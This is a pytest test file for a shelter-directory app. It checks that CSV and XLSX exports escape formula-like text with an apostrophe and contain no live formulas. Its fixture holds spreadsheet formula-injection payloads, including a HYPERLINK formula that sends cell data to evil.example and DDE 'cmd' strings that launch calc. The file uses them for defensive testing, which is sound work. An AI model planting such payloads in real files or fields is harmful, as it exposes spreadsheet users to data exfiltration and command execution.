"""One advocate's text never runs in coalition staff's spreadsheet program: text a
spreadsheet would read as a formula is exported with a leading apostrophe, in CSV
and XLSX alike, no XLSX cell is a formula, a control character never makes an
XLSX export fail, and a re-imported export stores exactly what was stored."""

from __future__ import annotations

import io

import openpyxl
import pytest

from shelters.models import Hotline, MedicalService, Shelter

from .conftest import signed_in
from .spreadsheet_files import CSV_FORMAT, XLSX_FORMAT, confirm, export, export_csv, preview

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?d="&M2,"Cedar House")',
    "description": "+cmd|' /C calc'!A0",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "county": "-2+3",
}
ESCAPED = {column: "'" + text for column, text in HOSTILE.items()}


def xlsx_rows(content: bytes) -> tuple[list[dict], list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]], cells


@pytest.fixture
def hostile(cast):
    shelter = cast["listings"]["Ours"]["shelter"]
    Shelter.objects.filter(pk=shelter.pk).update(**HOSTILE)
    return shelter


def test_csv_cells_that_look_like_formulas_get_an_apostrophe(client, cast, hostile):
    [row] = export_csv(signed_in(client, cast["coalition"]), query=f"?id={hostile.pk}")
    for column, text in ESCAPED.items():
        assert row[column] == text
    assert row["longitude"] == "-97.7431"  # a plain number is no formula


def test_xlsx_cells_are_never_formulas_and_are_escaped_alike(client, cast, hostile):
    content = export(signed_in(client, cast["coalition"]), format_=XLSX_FORMAT)
    rows, cells = xlsx_rows(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    row = next(row for row in rows if str(row["id"]) == str(hostile.pk))
    for column, text in ESCAPED.items():
        assert row[column] == text
    assert str(row["longitude"]) == "-97.7431"


@pytest.mark.parametrize("model", ["shelter", "medicalservice", "hotline"])
def test_a_vertical_tab_never_makes_an_xlsx_export_fail(client, cast, model):
    models = {"shelter": Shelter, "medicalservice": MedicalService, "hotline": Hotline}
    listing = cast["listings"]["Ours"][model]
    models[model].objects.filter(pk=listing.pk).update(description="Two\x0blines")
    rows, _cells = xlsx_rows(export(signed_in(client, cast["coalition"]), model, XLSX_FORMAT))
    row = next(row for row in rows if str(row["id"]) == str(listing.pk))
    assert row["description"] == "Two lines"


@pytest.mark.parametrize("format_", [CSV_FORMAT, XLSX_FORMAT])
def test_an_exported_file_imports_back_to_what_was_stored(client, cast, hostile, format_):
    client = signed_in(client, cast["advocate"])
    content = export(client, format_=format_)
    shown = preview(client, content, name="back.xlsx" if format_ == XLSX_FORMAT else "back.csv",
                    format_=format_)  # fmt: skip
    assert not shown.context["result"].has_errors(), shown.context["result"].invalid_rows
    assert not shown.context["result"].has_validation_errors()
    confirm(client, shown)
    hostile.refresh_from_db()
    for column, text in HOSTILE.items():
        assert getattr(hostile, column) == text
